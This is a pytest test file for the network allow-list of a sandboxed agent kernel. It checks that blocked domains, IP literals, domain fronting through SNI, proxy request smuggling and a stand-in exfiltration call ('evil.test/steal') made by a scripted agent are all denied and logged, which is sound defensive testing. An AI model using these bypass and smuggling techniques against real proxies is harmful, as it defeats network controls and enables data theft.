"""Network egress by allow-list, through real HTTP(S) servers and a real sandbox.

The servers listen on the host's 127.0.0.1 and are reached by name through
SandboxConfig.egress_resolve (there is no internet here). The kernel runs in
real bubblewrap with its empty network namespace; its requests go through
the loopback bridge and the host proxy, and every denial is shown from the
inside: what the code sees, what the trace records, and that the server
never heard of the request.
"""

from __future__ import annotations

import json
import shutil
import tempfile
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
import pytest
from nbclient import NotebookClient

from codeact_kernel import KernelSession, SandboxConfig
from codeact_kernel.sandbox.kernelspec import install_kernelspec
from codeact_kernel.terminal.cli import main
from codeact_kernel.trace.report import show

from ..helpers import code_cells, fence, ipython_shell, load_trace, make_agent
from ..scripted_llm import ScriptedLLMServer
from .egress_servers import CITIES_CSV, Seen, make_ca_and_cert, serve

pytestmark = pytest.mark.timeout(240)


@dataclass
class Net:
    http_port: int
    http_seen: Seen
    https_port: int
    https_seen: Seen
    ca_pem: Path


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Net]:
    ca_pem, context = make_ca_and_cert(tmp_path_factory.mktemp("ca"), ["secure.test"])
    with serve() as (http_port, http_seen), serve(context) as (https_port, https_seen):
        yield Net(http_port, http_seen, https_port, https_seen, ca_pem)


def egress_config(net: Net, **traits: Any) -> SandboxConfig:
    return SandboxConfig(
        allowed_domains=["data.test", "secure.test", "localhost"],
        egress_resolve={"data.test:80": f"127.0.0.1:{net.http_port}",
                        "secure.test:443": f"127.0.0.1:{net.https_port}"},
        ca_bundle=str(net.ca_pem), **traits,
    )


@pytest.fixture(scope="module")
def egress(net: Net, tmp_path_factory: pytest.TempPathFactory) -> Iterator[KernelSession]:
    runtime = tmp_path_factory.mktemp("rt")
    with KernelSession(runtime_dir=str(runtime), sandbox=egress_config(net), timeout=60) as s:
        yield s


def run(session: KernelSession, code: str, **values: Any) -> tuple[Any, list[dict[str, Any]]]:
    """Run ``code``; return its last stdout line decoded from JSON, and the egress records."""
    source = textwrap.dedent(code)
    for name, value in values.items():
        source = source.replace(name, repr(value))
    result = session.execute(source, timeout=60)
    assert result.ok, f"{result.reason}\n{result.stdout}\n{result.error and result.error.text}"
    return json.loads(result.stdout.strip().splitlines()[-1]), result.egress


# ---- allowed ------------------------------------------------------------------------------


def test_requests_and_urllib_reach_an_allowed_domain(egress: KernelSession, net: Net) -> None:
    out, records = run(egress, """
        import json, os, requests, urllib.request
        r = requests.get("http://data.test/hello")
        u = urllib.request.urlopen("http://data.test/via-urllib").read().decode()
        print(json.dumps({"requests": [r.status_code, r.text], "urllib": u,
                          "proxy": os.environ["HTTP_PROXY"]}))
    """)
    assert out["requests"] == [200, "hello GET /hello host=data.test body=0"]
    assert out["urllib"] == "hello GET /via-urllib host=data.test body=0"
    assert out["proxy"] == "http://127.0.0.1:3128"
    assert [(r["method"], r["host"], r["port"], r["allowed"], r["status"]) for r in records] == [
        ("GET", "data.test", 80, True, 200), ("GET", "data.test", 80, True, 200)]
    assert all(r["rule"] == "allowed_domains: data.test" and r["bytes_down"] > 0
               for r in records)
    assert ("GET", "/hello", "data.test") in net.http_seen.requests


def test_pandas_reads_a_csv_by_url(egress: KernelSession) -> None:
    out, records = run(egress, """
        import json
        import pandas as pd
        df = pd.read_csv("http://data.test/cities.csv")
        print(json.dumps({"columns": list(df.columns), "rows": len(df),
                          "top": df.sort_values("population").city.iloc[-1]}))
    """)
    assert out == {"columns": ["city", "population"], "rows": 3, "top": "Kinshasa"}
    assert records and records[0]["host"] == "data.test" and records[0]["allowed"]


def test_https_through_connect_with_verified_tls(egress: KernelSession, net: Net) -> None:
    out, records = run(egress, """
        import json, urllib.request
        import httpx, pandas as pd, requests
        got = {"requests": requests.get("https://secure.test/tls").text,
               "urllib": urllib.request.urlopen("https://secure.test/u").read().decode(),
               "httpx": httpx.get("https://secure.test/h").text,
               "pandas": len(pd.read_csv("https://secure.test/cities.csv"))}
        print(json.dumps(got))
    """)
    assert out["requests"] == "hello GET /tls host=secure.test body=0"
    assert out["urllib"] == "hello GET /u host=secure.test body=0"
    assert out["httpx"] == "hello GET /h host=secure.test body=0"
    assert out["pandas"] == 3
    tunnels = [r for r in records if r["method"] == "CONNECT"]
    assert len(tunnels) == 4
    assert all(r["host"] == "secure.test" and r["port"] == 443 and r["allowed"]
               and r["bytes_up"] > 0 and r["bytes_down"] > 0 and not r["error"]
               for r in tunnels)
    assert {p for _, p, _ in net.https_seen.requests} >= {"/tls", "/u", "/h", "/cities.csv"}


def test_a_tunnel_kept_open_is_reported_across_steps(egress: KernelSession) -> None:
    # A requests.Session keeps its HTTPS tunnel for the next request, possibly in a later
    # cell: each step records the bytes it moved, and the sums stay right.
    _, first = run(egress, """
        import json, requests
        keep = requests.Session()
        print(json.dumps(keep.get("https://secure.test/first").text))
    """)
    _, second = run(egress, """
        import json, time
        print(json.dumps(keep.get("https://secure.test/second").text))
        keep.close()
        time.sleep(0.5)  # the proxy sees the close
    """)
    assert [(r["method"], r["open"], r["continued"]) for r in first] == [
        ("CONNECT", True, False)]
    assert [(r["id"], r["open"], r["continued"]) for r in second] == [
        (first[0]["id"], False, True)]
    assert second[0]["bytes_down"] > 0 and not second[0]["error"]


def test_tls_is_verified_end_to_end(egress: KernelSession) -> None:
    # The proxy only carries the tunnel: the kernel checks the server's certificate itself,
    # so without the test CA (certifi's public roots alone) the handshake fails.
    out, _ = run(egress, """
        import json, certifi, requests
        try:
            requests.get("https://secure.test/x", verify=certifi.where())
            print(json.dumps("accepted"))
        except requests.exceptions.SSLError:
            print(json.dumps("SSLError"))
    """)
    assert out == "SSLError"


# ---- denied -----------------------------------------------------------------------------


DENIED = """
import json, urllib.request, urllib.error
import requests
out = {}
for name, url in URLS:
    try:
        r = requests.get(url, timeout=10, proxies=PROXIES)
        out[name] = [r.status_code, r.reason]
    except requests.exceptions.RequestException as exc:
        out[name] = [type(exc).__name__, str(exc)]
print(json.dumps(out))
"""


def denied(session: KernelSession, urls: dict[str, str], proxies: Any = None) -> tuple[
        dict[str, Any], list[dict[str, Any]]]:
    return run(session, DENIED, URLS=list(urls.items()), PROXIES=proxies)


def test_other_domains_are_denied_naming_the_setting(egress: KernelSession, net: Net) -> None:
    out, records = denied(egress, {"http": "http://evil.test/x", "https": "https://evil.test/y",
                                   "sub": "http://api.data.test/z"})
    assert out["http"][0] == 403 and "SandboxConfig.allowed_domains" in out["http"][1]
    assert out["https"][0] == "ProxyError" and "SandboxConfig.allowed_domains" in out["https"][1]
    assert out["sub"][0] == 403  # data.test is exact: its subdomains are not allowed
    assert [(r["host"], r["allowed"], r["rule"]) for r in records] == [
        ("evil.test", False, "allowed_domains"), ("evil.test", False, "allowed_domains"),
        ("api.data.test", False, "allowed_domains")]
    assert "evil.test" not in net.http_seen.hosts() | net.https_seen.hosts()


def test_ip_literals_are_denied(egress: KernelSession, net: Net) -> None:
    proxy = "http://127.0.0.1:3128"  # NO_PROXY keeps 127.0.0.1 off the proxy by default
    out, records = denied(egress, {
        "public": "http://93.184.215.14/", "server": f"http://127.0.0.1:{net.http_port}/",
        "decimal": "http://2130706433/", "v6": "https://[::1]/",
    }, proxies={"http": proxy, "https": proxy})
    assert out["public"][0] == out["server"][0] == out["decimal"][0] == 403
    assert "IP address" in out["public"][1]
    assert out["v6"][0] == "ProxyError"
    assert [r["rule"] for r in records] == ["ip-literal"] * 4
    assert len(net.http_seen.requests) == len(
        [r for r in net.http_seen.requests if r[2] == "data.test"])


def test_a_name_resolving_to_loopback_is_denied(egress: KernelSession, net: Net) -> None:
    # localhost is on the allow-list but not pinned: the proxy resolves it (127.0.0.1)
    # and refuses, because only egress_resolve pins may reach non-public addresses.
    proxy = "http://127.0.0.1:3128"
    out, records = denied(egress, {"plain": "http://localhost/",
                                   "tls": "https://localhost/"},
                          proxies={"http": proxy, "https": proxy})
    assert out["plain"][0] == 403 and "loopback" in out["plain"][1]
    assert "SandboxConfig.egress_resolve" in out["plain"][1]
    assert out["tls"][0] == "ProxyError" and "loopback" in out["tls"][1]
    assert [(r["host"], r["rule"]) for r in records] == [("localhost", "address")] * 2


def test_a_port_not_allowed_is_denied(egress: KernelSession) -> None:
    out, records = denied(egress, {"port": "http://data.test:8080/"})
    assert out["port"][0] == 403 and "SandboxConfig.allowed_ports" in out["port"][1]
    assert records[0]["rule"] == "allowed_ports" and records[0]["port"] == 8080


def test_sni_must_name_the_connect_target(egress: KernelSession, net: Net) -> None:
    # Domain fronting: a tunnel opened for an allowed name, then a TLS handshake for another.
    before = len(net.https_seen.requests)
    out, records = run(egress, """
        import json, socket, ssl
        sock = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        sock.sendall(b"CONNECT secure.test:443 HTTP/1.1\\r\\nHost: secure.test:443\\r\\n\\r\\n")
        status = sock.recv(1024).split(b"\\r\\n")[0].decode()
        ctx = ssl.create_default_context()
        ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
        try:
            with ctx.wrap_socket(sock, server_hostname="evil.test") as tls:
                tls.sendall(b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n")
                result = tls.recv(100).decode()
        except (OSError, ssl.SSLError) as exc:
            result = type(exc).__name__
        print(json.dumps([status, result]))
    """)
    assert out[0] == "HTTP/1.1 200 Connection established"
    assert out[1] in ("SSLEOFError", "SSLZeroReturnError", "ConnectionResetError", "SSLError")
    assert records[-1]["rule"] == "sni" and not records[-1]["allowed"]
    assert "evil.test" in records[-1]["error"]
    assert len(net.https_seen.requests) == before


def test_raw_sockets_have_no_route(egress: KernelSession, net: Net) -> None:
    out, _ = run(egress, """
        import json, socket
        out = {}
        for host, port in TARGETS:
            try:
                socket.create_connection((host, port), timeout=5).close()
                out[f"{host}:{port}"] = "connected"
            except OSError as exc:
                out[f"{host}:{port}"] = type(exc).__name__
        for name in ("data.test", "example.com"):
            try:
                socket.getaddrinfo(name, 80)
                out[name] = "resolved"
            except OSError as exc:
                out[name] = type(exc).__name__
        out["interfaces"] = [name for _, name in socket.if_nameindex()]
        print(json.dumps(out))
    """, TARGETS=[("127.0.0.1", net.http_port), ("127.0.0.1", net.https_port),
                  ("93.184.215.14", 80), ("1.1.1.1", 443), ("::1", net.http_port)])
    for target in ("127.0.0.1", "93.184.215.14", "1.1.1.1", "::1"):
        hits = [v for k, v in out.items() if k.startswith(target + ":")]
        assert hits and "connected" not in hits, out
    assert out["data.test"] == out["example.com"] == "gaierror"  # no resolver inside
    assert set(out["interfaces"]) <= {"lo"}


def test_garbage_to_the_proxy_reaches_nobody(egress: KernelSession, net: Net) -> None:
    before = len(net.http_seen.requests)
    out, records = run(egress, """
        import json, socket
        replies = []
        for payload in (b"\\x16\\x03\\x01 not http\\r\\n\\r\\n",
                        b"GET /relative HTTP/1.1\\r\\nHost: data.test\\r\\n\\r\\n",
                        b"GET http://data.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
                        b"GET http://a@data.test/ HTTP/1.1\\r\\n\\r\\n"):
            with socket.create_connection(("127.0.0.1", 3128), timeout=10) as s:
                s.sendall(payload)
                replies.append(s.recv(200).split(b"\\r\\n")[0].decode(errors="replace"))
        print(json.dumps(replies))
    """)
    assert out[0] == ""  # not a request at all: closed without a word
    assert [r.split(" ")[1] for r in out[1:]] == ["400", "400", "400"]
    assert "Host header" in out[2]
    assert len(net.http_seen.requests) == before
    assert all(not r["allowed"] for r in records)


def test_pipelined_requests_behind_an_allowed_one_never_leave(
    egress: KernelSession, net: Net
) -> None:
    # One request per connection: what the kernel queues behind it on the same connection
    # (another host, another method) would otherwise ride the approved connection out.
    out, records = run(egress, """
        import json, socket
        first = b"GET http://data.test/first HTTP/1.1\\r\\nHost: data.test\\r\\n\\r\\n"
        smuggled = (b"POST /smuggled HTTP/1.1\\r\\nHost: evil.test\\r\\n"
                    b"Content-Length: 5\\r\\n\\r\\nhello")
        with socket.create_connection(("127.0.0.1", 3128), timeout=10) as s:
            s.sendall(first + smuggled)
            data = b""
            while chunk := s.recv(65536):
                data += chunk
        print(json.dumps(data.decode()))
    """)
    assert out.count("HTTP/1.1 200") == 1 and "Connection: close" in out
    assert "/first" in out and "smuggled" not in out
    paths = [p for _, p, _ in net.http_seen.requests]
    assert "/first" in paths and "/smuggled" not in paths
    assert [(r["method"], r["status"]) for r in records] == [("GET", 200)]


def test_read_only_mode_and_byte_budget(net: Net, tmp_path: Path) -> None:
    config = egress_config(net, egress_methods="read-only", egress_byte_budget=300_000)
    with KernelSession(runtime_dir=str(tmp_path), sandbox=config, timeout=60) as session:
        out, records = run(session, """
            import json, requests
            out = {"get": requests.get("http://data.test/ok").status_code,
                   "head": requests.head("http://data.test/ok").status_code}
            r = requests.post("http://data.test/post", data=b"payload")
            out["post"] = [r.status_code, r.reason]
            try:
                requests.get("https://secure.test/tls")
            except requests.exceptions.ProxyError as exc:
                out["https"] = str(exc)
            try:
                requests.get("http://data.test/big?n=1000000")
                out["big"] = "whole"
            except requests.exceptions.RequestException as exc:
                out["big"] = type(exc).__name__
            r = requests.get("http://data.test/ok")
            out["after"] = [r.status_code, r.reason]
            print(json.dumps(out))
        """)
    assert out["get"] == out["head"] == 200
    assert out["post"][0] == 403 and "SandboxConfig.egress_methods" in out["post"][1]
    assert "SandboxConfig.egress_methods='all'" in out["https"]
    assert out["big"] in ("ChunkedEncodingError", "ConnectionError")  # cut mid-body
    assert out["after"][0] == 403 and "SandboxConfig.egress_byte_budget" in out["after"][1]
    assert [r["rule"] for r in records] == [
        "allowed_domains: data.test", "allowed_domains: data.test", "egress_methods",
        "egress_methods", "allowed_domains: data.test", "egress_byte_budget"]
    assert "egress_byte_budget" in records[4]["error"]
    assert sum(r["bytes_up"] + r["bytes_down"] for r in records) <= 300_000 + 256 * 1024
    assert "/post" not in [p for _, p, _ in net.http_seen.requests]


# ---- the audit trail -----------------------------------------------------------------------


def test_every_request_is_in_the_trace_and_codeact_show(
    net: Net, llm: ScriptedLLMServer, tmp_path: Path, runtime_dir: Path
) -> None:
    llm.enqueue(
        fence("import requests\n"
              "rows = requests.get('http://data.test/cities.csv').text.splitlines()\n"
              "r = requests.get('http://evil.test/steal?q=1')\n"
              "print(len(rows), r.status_code)"),
        fence("final_answer(len(rows))"),
    )
    agent = make_agent(llm, tmp_path, runtime_dir, tools=[])
    agent.session.manager.sandbox = egress_config(net)  # type: ignore[attr-defined]
    result = agent.run("How many lines has the cities file?")
    assert result.status == "answered" and result.answer == 4, result.reason
    assert not result.steps[0].blocked  # `import requests` is authorized with egress on
    nb = load_trace(result.trace_path)
    cells = code_cells(nb)
    egress = cells[0].metadata["codeact"]["egress"]
    assert [(r["method"], r["host"], r["port"], r["allowed"], r["rule"], r["status"])
            for r in egress] == [
        ("GET", "data.test", 80, True, "allowed_domains: data.test", 200),
        ("GET", "evil.test", 80, False, "allowed_domains", 403)]
    assert egress[0]["bytes_down"] > len(CITIES_CSV) and egress[0]["bytes_up"] > 0
    assert "not in SandboxConfig.allowed_domains" in egress[1]["error"]
    assert cells[1].metadata["codeact"]["egress"] == []
    assert any(line.startswith("egress: HTTP(S) through the host proxy to data.test")
               for line in nb.metadata["codeact"]["sandbox"])
    shown = show(result.trace_path)  # what `codeact show` prints
    assert "egress GET data.test:80 allowed 200 [allowed_domains: data.test] up " in shown
    assert ("egress GET evil.test:80 DENIED 403 [allowed_domains]: evil.test is not in "
            "SandboxConfig.allowed_domains") in shown


def test_without_an_allow_list_http_clients_are_refused_by_policy(
    llm: ScriptedLLMServer, tmp_path: Path, runtime_dir: Path
) -> None:
    llm.enqueue(fence("import requests\nrequests.get('http://data.test/')"),
                fence("final_answer('no network')"))
    result = make_agent(llm, tmp_path, runtime_dir, tools=[]).run("Fetch data.test")
    assert result.steps[0].blocked and result.steps[0].egress == []
    assert "import of 'requests' is not allowed" in json.dumps(result.steps[0].policy)


# ---- the kernelspec launch (JupyterLab, nbclient) ------------------------------------------


def test_the_kernelspec_launch_applies_the_same_egress(
    net: Net, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    runtime = Path(tempfile.mkdtemp(prefix="cke-"))  # short: unix socket paths live under it
    config = tmp_path / "egress.json"
    config.write_text(json.dumps({"SandboxConfig": {
        "allowed_domains": ["data.test", "secure.test"], "ca_bundle": str(net.ca_pem),
        "egress_resolve": {"data.test:80": f"127.0.0.1:{net.http_port}",
                           "secure.test:443": f"127.0.0.1:{net.https_port}"},
    }}))
    prefix = tmp_path / "prefix"
    install_kernelspec(prefix=str(prefix), name="codeact-egress-test",
                       launcher_args=[f"--runtime-dir={runtime}", f"--config={config}"])
    monkeypatch.setenv("JUPYTER_PATH", str(prefix / "share" / "jupyter"))
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(textwrap.dedent("""
        import json, requests
        print(json.dumps([requests.get("http://data.test/lab").text,
                          requests.get("https://secure.test/lab-tls").text,
                          requests.get("http://evil.test/").status_code]))
    """))])
    try:
        NotebookClient(nb, kernel_name="codeact-egress-test", timeout=120,
                       startup_timeout=60).execute()
    finally:
        shutil.rmtree(runtime, ignore_errors=True)
    assert json.loads(nb.cells[0].outputs[0]["text"]) == [
        "hello GET /lab host=data.test body=0", "hello GET /lab-tls host=secure.test body=0",
        403]


def test_codeact_run_allow_domain_flag(
    net: Net, llm: ScriptedLLMServer, tmp_path: Path, runtime_dir: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    config = tmp_path / "pins.json"
    config.write_text(json.dumps({"SandboxConfig": {
        "egress_resolve": {"data.test:80": f"127.0.0.1:{net.http_port}"}}}))
    llm.enqueue(fence("import requests\nfinal_answer(requests.get('http://data.test/cli').text)"))
    code = main(["run", "--model", "openai/scripted", "--api-base", llm.api_base,
                 "--trace", str(tmp_path / "t.ipynb"), f"--KernelSession.runtime_dir={runtime_dir}",
                 "--config", str(config), "--allow-domain", "data.test",
                 "--allow-domain", "*.example.org", "Fetch it"])
    out = capsys.readouterr().out
    assert code == 0, out
    assert "hello GET /cli host=data.test body=0" in out
    nb = load_trace(str(tmp_path / "t.ipynb"))
    assert "egress: HTTP(S) through the host proxy to data.test, *.example.org" in (
        nb.metadata["codeact"]["sandbox"])


def test_agent_magic_takes_the_allow_list_from_config(
    net: Net, llm: ScriptedLLMServer, tmp_path: Path
) -> None:
    # %config reaches SandboxConfig; the magic's warm pool hands over kernels with their proxy.
    ip = ipython_shell()
    settings = {
        "LLM.model": "'openai/scripted'", "LLM.api_base": repr(llm.api_base),
        "Agent.trace_dir": repr(str(tmp_path)),
        "KernelSession.runtime_dir": repr(str(tmp_path / "rt")),
        "SandboxConfig.allowed_domains": "['data.test']",
        "SandboxConfig.egress_resolve": repr({"data.test:80": f"127.0.0.1:{net.http_port}"}),
    }
    for key, value in settings.items():
        ip.run_line_magic("config", f"{key} = {value}")
    llm.enqueue(fence("import requests\nfinal_answer(requests.get('http://data.test/m').text)"))
    try:
        ip.run_cell_magic("agent", "-o got", "Fetch it")
        assert ip.user_ns["got"] == "hello GET /m host=data.test body=0"
        path = ip.run_line_magic("agent_trace", "")
        egress = code_cells(load_trace(path))[0].metadata["codeact"]["egress"]
        assert [(r["host"], r["allowed"], r["status"]) for r in egress] == [
            ("data.test", True, 200)]
    finally:
        ip.magics_manager.registry["AgentMagics"].shutdown()
        for section in ("SandboxConfig", "KernelSession", "AgentMagics"):
            ip.config.pop(section, None)
